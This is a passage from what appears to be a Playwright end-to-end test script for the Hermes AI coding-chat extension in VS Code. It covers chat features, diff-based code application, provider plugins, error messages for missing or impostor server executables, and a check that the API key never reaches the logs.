    // The list re-renders from the keys to the values: wait until it shows the choice alone.
    let texts = [];
    await waitFor('the true/false choice, the current value (the default, false) first', async () => {
      // Each row's aria-label (label, description, detail): a reused row keeps hidden text of the last list.
      texts = await rows.evaluateAll((els) => els.map((el) => el.getAttribute('aria-label')));
      return JSON.stringify(texts) === JSON.stringify(['false', 'true']);
    }, 10_000).catch((err) => {
      throw new Error(`${err.message}: ${JSON.stringify(texts)}`);
    });
    await shot('07b-boolean-choice');
    await input.fill('true');
    await page.keyboard.press('Enter');
    await waitFor('config.yaml to hold response_cache: true', async () => /response_cache:\s*true/.test(fs.readFileSync(config, 'utf8')), 10_000);
  } finally {
    fs.writeFileSync(config, before);
  }
});

await step('Ask About Selection sends the code with its file name', async () => {
  await page.keyboard.press('Escape');
  await runCommand('Go to File');
  await page.locator('.quick-input-widget input').fill('fib.py');
  await page.locator('.quick-input-list .monaco-list-row', { hasText: 'fib.py' }).first().waitFor();
  await page.keyboard.press('Enter');
  await page.locator('.monaco-editor .view-lines', { hasText: 'def fib' }).first().waitFor({ timeout: 15_000 });
  await page.locator('.monaco-editor .view-lines').first().click();
  await page.keyboard.press('Control+A');
  await upstreamPost('/__config', { reply_text: 'It computes Fibonacci numbers recursively.', chunk_count: 5, chunk_delay: 0.02, routed_model: 'qwen/qwen3-coder' });
  await runCommand('Hermes: Ask About Selection', { escape: false });
  const input = page.locator('.quick-input-widget input');
  await input.waitFor({ state: 'visible' });
  await input.fill('What does this do?');
  await page.keyboard.press('Enter');
  await waitFor('the reply', async () => ((await lastReply().locator('.content').textContent()) ?? '').includes('recursively'), 20_000);
  const user = (await chat.locator('article.entry.user').last().textContent()) ?? '';
  if (!user.includes('fib.py') || !user.includes('What does this do?')) {
    throw new Error(`user message: ${user}`);
  }
  const last = (await upstreamRequests()).filter((r) => r.path.endsWith('/chat/completions')).at(-1);
  const sent = JSON.stringify(last?.json?.messages ?? []);
  if (!sent.includes('From `fib.py` (python), lines 1-3') || !sent.includes('def fib(n)')) {
    throw new Error(`upstream did not get the selection: ${sent.slice(0, 400)}`);
  }
  await shot('08-ask-selection');
});

const FAST_FIB = 'def fib(n):\n    a, b = 0, 1\n    for _ in range(n):\n        a, b = b, a + b\n    return a\n';
const fibFile = path.join(workspace, 'fib.py');

await step('Apply… puts a code block over the asked-about selection through a diff, written only on accept', async () => {
  const before = fs.readFileSync(fibFile, 'utf8');
  await upstreamPost('/__config', { reply_text: REPLY, chunk_count: 4, chunk_delay: 0, routed_model: null });
  await sendPrompt('Make it faster.');
  await waitForIdle();
  await lastReply().locator('button.apply-code').click();
  await page.locator('.tab', { hasText: "Hermes' change" }).first().waitFor({ timeout: 15_000 });
  await page.locator('.monaco-diff-editor').first().waitFor({ timeout: 10_000 });
  if (fs.readFileSync(fibFile, 'utf8') !== before) {
    throw new Error('fib.py was written before the change was accepted');
  }
  await shot('14-apply-diff');
  await runCommand('Hermes: Accept Proposed Change');
  await waitFor('fib.py to hold the new code', async () => fs.readFileSync(fibFile, 'utf8') === FAST_FIB, 10_000);
  await waitFor('the diff to close', async () => (await page.locator('.tab', { hasText: "Hermes' change" }).count()) === 0, 10_000);
  await shot('15-applied');
});

await step('Insert puts a code block at the cursor', async () => {
  await upstreamPost('/__config', { reply_text: 'Call it like this:\n\n```python\nprint(fib(30))\n```\n', chunk_count: 2, chunk_delay: 0, routed_model: null });
  await sendPrompt('How do I call it?');
  await waitForIdle();
  const editor = page.locator('.monaco-editor .view-lines', { hasText: 'def fib' }).first();
  await editor.click();
  await page.keyboard.press('Control+End');
  await lastReply().locator('button.insert-code').click();
  await waitFor('the inserted line in the editor', async () => ((await editor.textContent()) ?? '').replace(/\u00a0/g, ' ').includes('print(fib(30))'), 10_000);
  await shot('16-inserted');
  await editor.click();
  await page.keyboard.press('Control+Z');
  await page.keyboard.press('Control+S');
});

await step('Add current file shows a chip with its size, Preview shows exactly how it is sent, and it goes with the next message', async () => {
  await page.locator('.monaco-editor .view-lines', { hasText: 'def fib' }).first().click();
  await chat.locator('#add-file').click();
  // "+ File" is a picker of the workspace's files, the current one first: Enter adds it.
  await page.locator('.quick-input-list .monaco-list-row', { hasText: 'the current file' }).first().waitFor({ timeout: 10_000 });
  await page.keyboard.press('Enter');
  const chip = chat.locator('#chips .chip', { hasText: 'fib.py' });
  await chip.waitFor({ timeout: 10_000 });
  const label = (await chip.textContent()) ?? '';
  if (!label.includes(`${Buffer.byteLength(FAST_FIB)} B`)) {
    throw new Error(`chip: ${label}`);
  }
  await chat.locator('#input').fill('What is in this file?');
  await chat.locator('#preview').click();
  const expected = `File ${fibFile}:`;
  await page.locator('.monaco-editor .view-lines', { hasText: expected }).first().waitFor({ timeout: 15_000 });
  await shot('17-context-preview');
  await page.keyboard.press('Control+W');
  await upstreamPost('/__config', { reply_text: 'It holds fib.', chunk_count: 2, chunk_delay: 0, routed_model: null });
  await chat.locator('#input').press('Enter');
  await waitForIdle();
  await chat.locator('#chips .chip').first().waitFor({ state: 'detached', timeout: 10_000 });
  await chat.locator('article.entry.user .attached .chip', { hasText: 'fib.py' }).last().waitFor({ timeout: 5_000 });
  const last = (await upstreamRequests()).filter((r) => r.path.endsWith('/chat/completions')).at(-1);
  const content = last?.json?.messages?.at(-1)?.content ?? '';
  if (content !== `${expected}\n\`\`\`python\n${FAST_FIB}\`\`\`\n\nWhat is in this file?`) {
    throw new Error(`sent: ${JSON.stringify(content).slice(0, 400)}`);
  }
});

await step('"+ File" finds any workspace file by a fuzzy part of its name', async () => {
  fs.mkdirSync(path.join(workspace, 'docs'), { recursive: true });
  fs.writeFileSync(path.join(workspace, 'docs', 'design-notes.md'), '# Design\n\nKeep it small.\n');
  await chat.locator('#add-file').click();
  const input = page.locator('.quick-input-widget input');
  await input.waitFor({ state: 'visible' });
  const row = page.locator('.quick-input-list .monaco-list-row', { hasText: 'design-notes.md' }).first();
  // The search may start before the new file is indexed: type again until it is listed.
  await waitFor('design-notes.md among the matches of "dsgnnotes"', async () => {
    await input.fill('');
    await input.fill('dsgnnotes');
    return (await row.count()) > 0 && (await row.textContent())?.includes('docs');
  }, 20_000, 1_000);
  await shot('17b-file-picker');
  await page.keyboard.press('Enter');
  const chip = chat.locator('#chips .chip', { hasText: 'design-notes.md' });
  await chip.waitFor({ timeout: 10_000 });
  await chip.locator('.remove-chip').click();
  await chip.waitFor({ state: 'detached', timeout: 5_000 });
});

await step('Open Conversation reopens an earlier conversation and continues it', async () => {
  await chat.locator('#new-chat').click();
  await waitFor('an empty transcript', async () => (await chat.locator('article.entry').count()) === 0, 5_000);
  await chat.locator('#history').click();
  const input = page.locator('.quick-input-widget input');
  await input.waitFor({ state: 'visible', timeout: 10_000 });
  await page.locator('.quick-input-list .monaco-list-row', { hasText: 'What does this do?' }).first().waitFor({ timeout: 10_000 });
  await input.fill('fibonacci');
  const row = page.locator('.quick-input-list .monaco-list-row', { hasText: 'Write a fast Fibonacci function in Python.' }).first();
  await row.waitFor({ timeout: 10_000 });
  const text = (await row.textContent()) ?? '';
  if (!text.includes('openrouter · openrouter/pareto-code') || !/ago|just now/.test(text)) {
    throw new Error(`history row: ${text}`);
  }
  await waitFor('the filter to drop the conversation that does not match',
    async () => (await page.locator('.quick-input-list .monaco-list-row', { hasText: 'What does this do?' }).count()) === 0, 5_000);
  await shot('18-history');
  await page.keyboard.press('Enter');
  await chat.locator('article.entry.user', { hasText: 'Write a fast Fibonacci function in Python.' }).waitFor({ timeout: 10_000 });
  await chat.locator('article.entry.assistant .code-block code.language-python').first().waitFor({ timeout: 5_000 });
  await shot('19-reopened');
  // Saved with the turn: the reopened reply has its footer, the view its session total.
  const reopened = (await chat.locator('article.entry.assistant .meta').first().textContent()) ?? '';
  if (!reopened.startsWith('pareto-code → qwen/qwen3-coder · ') || !reopened.includes(' · $0.0042 · ')) {
    throw new Error(`reopened footer: ${reopened}`);
  }
  const reopenedTotal = (await chat.locator('#session-usage').textContent()) ?? '';
  if (!/^\d+ replies · [\d,]+ in \/ [\d,]+ out · \$0\.\d+/.test(reopenedTotal)) {
    throw new Error(`the reopened conversation's session total: ${reopenedTotal}`);
  }
  await upstreamPost('/__config', { reply_text: 'Sure, in Rust too.', chunk_count: 2, chunk_delay: 0, routed_model: null });
  await sendPrompt('And in Rust?');
  await waitFor('the continued reply', async () => ((await lastReply().locator('.content').textContent()) ?? '').includes('in Rust too'), 20_000);
  const last = (await upstreamRequests()).filter((r) => r.path.endsWith('/chat/completions')).at(-1);
  const sent = (last?.json?.messages ?? []).map((m) => m.content);
  if (sent[0] !== 'Write a fast Fibonacci function in Python.' || sent.at(-1) !== 'And in Rust?' || !sent.includes('Tell me a very long story.')) {
    throw new Error(`the continued chat did not carry the earlier turns: ${JSON.stringify(sent).slice(0, 300)}`);
  }
});

await step('a plugin added elsewhere shows up in the picker (hermes/providersChanged)', async () => {
  const pluginDir = path.join(hermesHome, 'plugins/model-providers/acme-inference');
  // Modes set explicitly: hermesd refuses a plugin others could write, whatever the umask.
  fs.mkdirSync(pluginDir, { recursive: true, mode: 0o755 });
  fs.writeFileSync(
    path.join(pluginDir, '__init__.py'),
    [
      'from providers import register_provider',
      'from providers.base import ProviderProfile',
      '',
      'register_provider(ProviderProfile(',
      '    name="acme-inference",',
      '    display_name="Acme Inference",',
      '    description="Acme: OpenAI-compatible direct API",',
      '    env_vars=("ACME_API_KEY",),',
      '    base_url="https://api.acme-inference.example/v1",',
      '    fallback_models=("acme-large-v3",),',
      '))',
      '',
    ].join('\n'),
    { mode: 0o644 },
  );
  // The next session re-reads the plugin directories; hermesd then sends
  // hermes/providersChanged to every connected editor.
  await upstreamPost('/__config', { reply_text: 'ok', chunk_count: 1, chunk_delay: 0, routed_model: null });
  await chat.locator('#new-chat').click();
  await sendPrompt('Hello again.');
  await waitForIdle();
  const log = () => {
    const dir = path.join(userData, 'logs');
    const found = [];
    const walk = (d) => fs.readdirSync(d, { withFileTypes: true }).forEach((e) => (e.isDirectory() ? walk(path.join(d, e.name)) : e.name === 'Hermes.log' && found.push(path.join(d, e.name))));
    walk(dir);
    return found.map((f) => fs.readFileSync(f, 'utf8')).join('\n');
  };
  await waitFor('the providersChanged notification in the Hermes log', async () => log().includes('providers changed'), 15_000);
  await runCommand('Hermes: Select Model');
  await openSetupList();
  await page.locator('.quick-input-widget input').fill('acme');
  await page.locator('.quick-input-list .monaco-list-row', { hasText: 'needs ACME_API_KEY' }).first().waitFor({ timeout: 15_000 });
  await shot('09-plugin-added');
  await page.keyboard.press('Escape');
});

await step('Run Doctor shows a report with ok/warn/fail rows', async () => {
  await runCommand('Hermes: Run Doctor');
  const preview = page
    .frameLocator('iframe.webview[src*="extensionId=vscode.markdown-language-features"]')
    .frameLocator('#active-frame');
  await preview.locator('h1', { hasText: 'Hermes doctor' }).waitFor({ timeout: 30_000 });
  const table = (await preview.locator('table').first().textContent()) ?? '';
  if (!/ok/.test(table) || !/provider · openrouter/.test(table)) {
    throw new Error(`doctor table: ${table.slice(0, 400)}`);
  }
  await shot('10-doctor');
});

await step('Restart Server brings the daemon back', async () => {
  await runCommand('Hermes: Restart Server');
  await waitFor('the status bar model after restart', async () => (await page.locator('.statusbar-item', { hasText: 'pareto-code' }).count()) > 0, 30_000);
  await upstreamPost('/__config', { reply_text: 'Back again.', chunk_count: 3, chunk_delay: 0, routed_model: null });
  await sendPrompt('Are you there?');
  await waitFor('a reply after restart', async () => ((await lastReply().locator('.content').textContent()) ?? '').includes('Back again.'), 20_000);
});

/**
 * Sets hermes.server.path in the Settings editor, as a user would. The
 * setting is machine-scoped, so in code-server it lives on the Remote tab.
 */
async function setServerPath(value) {
  const search = page.locator('.settings-editor .suggest-input-container .monaco-editor textarea').first();
  if (!(await search.isVisible())) {
    await runCommand('Preferences: Open User Settings');
  }
  await search.waitFor({ timeout: 15_000 });
  await page.locator('.settings-editor .settings-tabs-widget .action-label', { hasText: 'Remote' }).first().click();
  await search.fill('hermes.server.path');
  const input = page.locator('.settings-editor .setting-item-contents', { hasText: 'Path' }).locator('input.input').first();
  await input.waitFor({ timeout: 15_000 });
  await input.fill(value);
  await input.press('Enter');
  await input.press('Tab');
}

await step('a missing hermesd gets an actionable message, and fixing the setting restarts it', async () => {
  await setServerPath('/nonexistent/bin/hermesd');
  const toast = page.locator('.notifications-toasts .notification-toast', { hasText: 'Hermes could not start its server' });
  await toast.first().waitFor({ timeout: 20_000 });
  const text = (await toast.first().textContent()) ?? '';
  for (const expected of ['from a checkout of hermesd: "pip install ." there', 'hermes.server.path "/nonexistent/bin/hermesd"', 'Set Path', 'Install from Checkout…']) {
    if (!text.includes(expected)) {
      throw new Error(`notification lacks "${expected}": ${text}`);
    }
  }
  await chat.locator('#server-banner:not(.hidden)', { hasText: 'from a checkout of hermesd: "pip install ."' }).waitFor({ timeout: 10_000 });
  await page.locator('.statusbar-item', { hasText: 'Hermes' }).first().waitFor();
  await shot('11-server-not-found');
  await setServerPath(daemon.path);
  await waitFor('the server to come back', async () => (await page.locator('.statusbar-item', { hasText: 'pareto-code' }).count()) > 0, 30_000);
  await chat.locator('#server-banner.hidden').waitFor({ state: 'attached', timeout: 10_000 });
});

// Programs called hermesd that are not hermesd's server (tests/editors/impostors.py
// writes them; HERMES_TEST_IMPOSTORS maps each case to its directory).
await step('a program called hermesd that is not hermesd is refused within seconds, naming the executable', async () => {
  const impostors = JSON.parse(process.env.HERMES_TEST_IMPOSTORS ?? 'null');
  if (!impostors) {
    throw new Error('HERMES_TEST_IMPOSTORS is not set');
  }
  const problems = {
    hang: 'did not answer the LSP initialize request within 5 s',
    noise: 'printed "hermesd 2026.9.26: TUI monitoring dashboard for Hermes AI agent" instead of answering the LSP initialize request within 5 s',
    other: 'answered initialize as "hermesd-dashboard", without a hermes protocol version',
  };
  for (const [name, problem] of Object.entries(problems)) {
    await closeNotifications();
    const exe = path.join(impostors[name], 'hermesd');
    await setServerPath(exe);
    const toast = page.locator('.notifications-toasts .notification-toast', { hasText: `Hermes started ${exe}` });
    await toast.first().waitFor({ timeout: 20_000 });
    const text = (await toast.first().textContent()) ?? '';
    for (const expected of [problem, 'from a checkout of hermesd: "pip install ." there', 'hermes.server.path', 'Open Settings', 'Show Logs']) {
      if (!text.includes(expected)) {
        throw new Error(`${name}: notification lacks "${expected}": ${text}`);
      }
    }
    await chat.locator('#server-banner:not(.hidden)', { hasText: exe }).waitFor({ timeout: 10_000 });
    if (name === 'noise') {
      await shot('12-not-hermesd');
    }
    // One message, Hermes' own: the language client's generic one stays in the log.
    const generic = await page.locator('.notifications-toasts .notification-toast', { hasText: "couldn't create connection" }).count();
    if (generic) {
      throw new Error(`${name}: the language client's "couldn't create connection" toast is shown too`);
    }
  }
  await setServerPath(daemon.path);
  await waitFor('the server to come back', async () => (await page.locator('.statusbar-item', { hasText: 'pareto-code' }).count()) > 0, 30_000);
});

await step('hermes.server.shared decides whether the window used the shared daemon', async () => {
  const sockets = fs.existsSync(sharedRunDir) ? fs.readdirSync(sharedRunDir).filter((n) => /^hermesd-.*\.sock$/.test(n)) : [];
  const wanted = baseSettings['hermes.server.shared'] ? 1 : 0;
  if (sockets.length !== wanted) {
    throw new Error(`expected ${wanted} shared daemon socket(s) in ${sharedRunDir}, found ${JSON.stringify(sockets)}`);
  }
});

await step('with no key and no model, the picker leads with pareto-code and "Set up another provider…"', async () => {
  // A wrapper that starts the same daemon without the key (or the loopback URL, which alone would
  // count as a keyless endpoint), its own daemon rather than the shared one (which has the key), and no config.yaml.
  const dir = path.join(tmp, 'no-key');
  fs.mkdirSync(dir, { recursive: true });
  const wrapper = path.join(dir, 'hermesd');
  fs.writeFileSync(wrapper, `#!/bin/sh\nunset OPENROUTER_API_KEY OPENROUTER_BASE_URL\nexport HERMESD_SHARED=0\nexec ${shellQuote(daemon.path)} "$@"\n`, { mode: 0o755 });
  fs.renameSync(path.join(hermesHome, 'config.yaml'), path.join(hermesHome, 'config.yaml.e2e'));
  await closeNotifications();
  // The settings search still holds earlier searches after the reload: start from an empty one.
  const search = page.locator('.settings-editor .suggest-input-container .monaco-editor textarea').first();
  if (await search.isVisible()) {
    await search.focus();
    await page.keyboard.press('Control+A');
    await page.keyboard.press('Delete');
  }
  await setServerPath(wrapper);
  await page.keyboard.press('Escape');
  // The picker of the restarted daemon (the one without the key): retry until it answers.
  const rows = page.locator('.quick-input-list .monaco-list-row');
  const texts = await waitFor('the picker of the daemon without a key', async () => {
    await runCommand('Hermes: Select Model');
    await rows.filter({ hasText: 'Set up another provider…' }).first().waitFor({ timeout: 20_000 });
    const shown = await rows.allTextContents();
    if (shown.some((t) => t.includes('needs OPENROUTER_API_KEY'))) {
      return shown;
    }
    await page.keyboard.press('Escape');
    return undefined;
  }, 60_000, 1_000);
  if (!texts[0]?.includes('Recommended') || !texts.some((t) => t.includes('openrouter/pareto-code') && t.includes('needs OPENROUTER_API_KEY'))) {
    throw new Error(`first screen: ${JSON.stringify(texts)}`);
  }
  if (texts.length > 6) {
    throw new Error(`more than pareto-code and the setup entry: ${JSON.stringify(texts)}`);
  }
  await shot('20-picker-no-keys');
  // Choosing pareto-code asks the daemon's question, then says how to set the key.
  await rows.filter({ hasText: 'openrouter/pareto-code' }).first().click();
  // The quick pick and the input box share one widget (and its input): wait for the box's own title,
  // else Enter can land while the pick is still closing and be lost.
  const input = page.locator('.quick-input-widget input');
  await page.locator('.quick-input-widget .quick-input-title', { hasText: 'openrouter/pareto-code' }).waitFor({ state: 'visible' });
  await waitFor('the score question', async () => (await input.inputValue()) !== '', 10_000);
  await input.press('Enter');
  const toast = page.locator('.notifications-toasts .notification-toast', { hasText: 'OPENROUTER_API_KEY' });
  await toast.first().waitFor({ timeout: 10_000 });
  const text = (await toast.first().textContent()) ?? '';
  if (!text.includes('Get a Key') || !text.includes('https://openrouter.ai/keys')) {
    throw new Error(`key hint: ${text}`);
  }
  // Refused, not saved: the daemon wrote no config.yaml (issue 33).
  if (!text.includes('nothing was changed') || fs.existsSync(path.join(hermesHome, 'config.yaml'))) {
    throw new Error(`the choice without a key was saved: ${text}`);
  }
  await shot('21-pareto-needs-key');
  await closeNotifications();
  // Back to the configured model for the steps after this one.
  fs.renameSync(path.join(hermesHome, 'config.yaml.e2e'), path.join(hermesHome, 'config.yaml'));
});

await step('hermesd-lsp only in a venv off PATH: the extension says what it tried, and "Set Path" gets it chatting', async () => {
  // Clear the setting, from the user settings and where code-server keeps
  // machine settings (what the Remote tab edits), then reload the window.
  for (const file of [settingsFile, path.join(userData, 'Machine/settings.json')]) {
    const settings = JSON.parse(fs.readFileSync(file, 'utf8'));
    delete settings['hermes.server.path'];
    delete settings['hermes.server.args'];
    fs.writeFileSync(file, JSON.stringify(settings, null, 2));
  }
  const reloaded = page.waitForEvent('load', { timeout: 60_000 });
  await runCommand('Developer: Reload Window');
  await reloaded;
  await page.waitForSelector('.monaco-workbench', { timeout: 60_000 });
  const toast = page.locator('.notifications-toasts .notification-toast', { hasText: 'hermesd was not found' }).first();
  await toast.waitFor({ timeout: 60_000 });
  const text = (await toast.textContent()) ?? '';
  for (const expected of ['hermes.server.path: not set', 'ms-python.python', 'pipx', 'PATH', 'no hermesd-lsp', 'from a checkout of hermesd: "pip install ." there', 'Set Path', 'Install from Checkout…']) {
    if (!text.includes(expected)) {
      throw new Error(`notification lacks "${expected}": ${text}`);
    }
  }
  await runCommand('Hermes: Open Chat');
  await chat.locator('#server-banner:not(.hidden)', { hasText: 'hermesd was not found' }).waitFor({ timeout: 20_000 });
  await waitFor(
    'the model line to tell the same state as the banner',
    async () => (await chat.locator('#model-name').textContent()) === 'Not connected: hermesd was not found',
    10_000,
  );
  await shot('13-server-search-failed');
  const fromToast = toast.locator('.monaco-button', { hasText: 'Set Path' });
  if (await fromToast.isVisible()) {
    await fromToast.click();
  } else {
    await chat.locator('#server-banner button', { hasText: 'Set Path' }).click();
  }
  const input = page.locator('.quick-input-widget input');
  await input.waitFor({ state: 'visible', timeout: 10_000 });
  await input.fill(venvHermesd);
  await page.keyboard.press('Enter');
  await waitFor('the status bar model once hermesd runs', async () => (await page.locator('.statusbar-item', { hasText: 'pareto-code' }).count()) > 0, 60_000);
  await chat.locator('#server-banner.hidden').waitFor({ state: 'attached', timeout: 10_000 });
  await upstreamPost('/__config', { reply_text: 'Found you.', chunk_count: 2, chunk_delay: 0, routed_model: null });
  await sendPrompt('Can you hear me?');
  await waitFor('a reply through the venv hermesd', async () => ((await lastReply().locator('.content').textContent()) ?? '').includes('Found you.'), 30_000);
});

await browser.close();
killAll();
await sleep(500);

await step('the API key appears in no log', async () => {
  const files = [];
  const walk = (dir) => {
    for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
      const full = path.join(dir, entry.name);
      if (entry.isDirectory()) {
        walk(full);
      } else if (/\.(log|txt|json)$/.test(entry.name) || entry.name.endsWith('.log.1')) {
        files.push(full);
      }
    }
  };
  walk(artifacts);
  walk(path.join(userData, 'logs'));
  const extensionLog = files.find((f) => /Hermes\.log$/.test(f));
  if (!extensionLog) {
    throw new Error('the Hermes output channel log was not found');
  }
  const leaks = files.filter((f) => fs.readFileSync(f, 'utf8').includes(CANARY_KEY));
  if (leaks.length) {
    throw new Error(`the key is in: ${leaks.join(', ')}`);
  }
});

// ---------------------------------------------------------------- done
const passed = results.filter((r) => r.ok).length;
const failed = results.length - passed;
fs.writeFileSync(path.join(artifacts, 'results.json'), JSON.stringify({ elapsedMs: Date.now() - started, results }, null, 2));
if (!keep) {
  fs.rmSync(tmp, { recursive: true, force: true });
}
for (const r of results.filter((x) => !x.ok)) {
  console.log(`\n--- ${r.name}\n${r.error}`);
}
console.log(`\nvscode e2e: ${passed} passed, ${failed} failed (${elapsed()}); screenshots in ${artifacts}`);
process.exit(failed ? 1 : 0);
